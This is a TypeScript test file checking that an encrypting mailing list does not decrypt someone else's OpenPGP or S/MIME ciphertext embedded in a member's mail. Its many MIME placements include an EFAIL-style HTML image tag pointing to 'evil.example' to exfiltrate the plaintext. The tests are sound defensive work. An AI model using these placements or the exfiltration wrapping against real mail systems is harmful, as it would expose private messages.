/**
 * Decryption-oracle mails (Müller et al., "Mitigation of Attacks on Email End-to-End Encryption", ACM CCS 2020): somebody
 * else's ciphertext in a new mail, so that the list opens it and sends it to the thief, who is a member. In all four
 * combinations of the families and in each place only what is the whole of the mail is opened, and one layer of it (S1).
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { type Bytes, concatBytes, latin1, systemRandom } from "#base";
import { composeMultipart, composePart, parseMessage } from "#mime";
import { attackedList, textOf, UNSIGNED_TOO } from "../support/lists/attacked-list.ts";
import { entity, mail, mixed, sealed, sealedArmour, signed } from "../support/programs/correspondents.ts";

const SECRET = "the secret of Alice";
const NOTE = entity("what do you think of this?\n");

function multipart(subtype: string, ...parts: readonly Bytes[]): Bytes {
  return composeMultipart({ subtype, parts, random: systemRandom });
}

const html = (text: string): Bytes =>
  composePart({ fields: [["Content-Type", "text/html"]], body: latin1(text) });

function rfc822(content: Bytes, type = "message/rfc822"): Bytes {
  const inner = mail(
    [
      ["From", "alice@example.org"],
      ["MIME-Version", "1.0"],
    ],
    content,
  );
  return composePart({ fields: [["Content-Type", type]], body: inner });
}

const bodyOf = (content: Bytes): Bytes => {
  const parsed = parseMessage(content);
  assert.ok(parsed.ok);
  return parsed.value.children[1]?.body ?? parsed.value.body;
};

const attached = (content: Bytes, name: string, type: string): Bytes =>
  composePart({
    fields: [
      ["Content-Type", type],
      ["Content-Transfer-Encoding", name.endsWith(".p7m") ? "base64" : "7bit"],
      ["Content-Disposition", `attachment; filename="${name}"`],
    ],
    body: bodyOf(content),
  });

/** `stolen`: a whole sealed entity. */
const PLACES: Readonly<Record<string, (stolen: Bytes) => Bytes>> = {
  "in its place": (stolen) => stolen,
  "in a message": (stolen) => rfc822(stolen),
  "in a message that says it is no forwarded one": (stolen) => rfc822(stolen, "message/rfc822; forwarded=no"),
  "in a message of UTF-8": (stolen) => rfc822(stolen, "message/global"),
  "behind a text": (stolen) => mixed(NOTE, stolen),
  "in front of a text": (stolen) => mixed(stolen, NOTE),
  "behind an empty text": (stolen) => mixed(entity(""), stolen),
  "between HTML": (stolen) => mixed(html('<img src="http://evil.example/?'), stolen, html('">')),
  "as an alternative": (stolen) => multipart("alternative", NOTE, stolen),
  "as related to HTML": (stolen) => multipart("related", html("<i>x</i>"), stolen),
  "alone in a multipart in a multipart": (stolen) => mixed(mixed(stolen)),
  "in a digest": (stolen) => multipart("digest", rfc822(stolen)),
  "as a file of octets": (stolen) =>
    mixed(NOTE, attached(stolen, "smime.p7m", 'application/octet-stream; name="smime.p7m"')),
  "as a file of its kind": (stolen) =>
    mixed(NOTE, attached(stolen, "smime.p7m", "application/pkcs7-mime; name=smime.p7m")),
  "as an armoured file": (stolen) => mixed(NOTE, attached(stolen, "mail.asc", "application/octet-stream")),
  "as an armoured text": (stolen) => mixed(NOTE, attached(stolen, "mail.txt", "text/plain")),
};

for (const outer of ["openpgp", "smime"] as const) {
  for (const inner of ["openpgp", "smime"] as const) {
    test(`${inner} of somebody else in ${outer} of the thief's stays closed`, async (t) => {
      const list = await attackedList(t, UNSIGNED_TOO);
      const { team, mallory, alice } = list;
      const stolen = await sealed(team[inner], await signed(alice, entity(`${SECRET}\n`)));
      for (const [what, put] of Object.entries(PLACES)) {
        const content = await signed(mallory, put(stolen));
        const { report, copy } = await list.post(mallory.address, await sealed(team[outer], content));
        assert.ok(!report.author.authentic || report.author.address === mallory.address, what);
        assert.equal(report.layers.filter((one) => one.kind === "encrypted" && one.opened).length, 1, what);
        assert.ok(copy !== null, what);
        assert.doesNotMatch(decoded(copy.content), /the secret of Alice/, what);
      }
      const { copy } = await list.post(alice.address, stolen);
      assert.match(textOf(copy), /the secret of Alice/, "alone it opens, and nobody used it up");
    });
  }
}

/** The text with all base64 in it decoded, too. */
function decoded(content: Bytes): string {
  const text = Buffer.from(content).toString("latin1");
  const blocks = text.match(/(?:[A-Za-z0-9+/]{40,}={0,2}\r\n)+/g) ?? [];
  return [text, ...blocks.map((one) => Buffer.from(one, "base64").toString("latin1"))].join("\n");
}

test("quoted in an answer, in clear or in a sealed one, it stays closed", async (t) => {
  const list = await attackedList(t, UNSIGNED_TOO);
  const { team, mallory } = list;
  const armour = await sealedArmour(team.openpgp, entity(`${SECRET}\n`));
  const lines = Buffer.from(armour).toString("latin1");
  for (const text of [
    `Alice wrote:\r\n${lines}`,
    `Alice wrote:\r\n> ${lines.replaceAll("\r\n", "\r\n> ")}\r\n`,
    `${lines}\r\n-- \r\nMallory`,
    `\r\n${lines}${lines}`,
  ]) {
    const quote = composePart({ fields: [["Content-Type", "text/plain"]], body: latin1(text) });
    for (const content of [quote, await sealed(team.openpgp, quote, mallory)]) {
      const { copy } = await list.post(mallory.address, content);
      assert.doesNotMatch(textOf(copy), /the secret of Alice/);
    }
  }
  const whole = concatBytes(latin1("Content-Type: text/plain\r\n\r\n"), armour);
  assert.match(textOf((await list.post(mallory.address, whole)).copy), /the secret of Alice/);
});
